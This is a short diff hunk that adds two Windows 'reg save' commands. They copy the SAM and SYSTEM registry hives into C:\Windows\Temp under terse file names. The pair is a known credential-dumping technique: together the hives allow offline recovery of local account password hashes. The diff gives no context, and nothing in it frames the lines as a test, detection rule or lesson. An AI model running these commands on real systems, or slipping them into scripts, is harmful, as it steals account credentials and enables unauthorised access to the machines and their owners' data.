@@ -1,0 +1,2 @@
+reg save HKLM\SAM C:\Windows\Temp\s.hiv
+reg save HKLM\SYSTEM C:\Windows\Temp\y.hiv
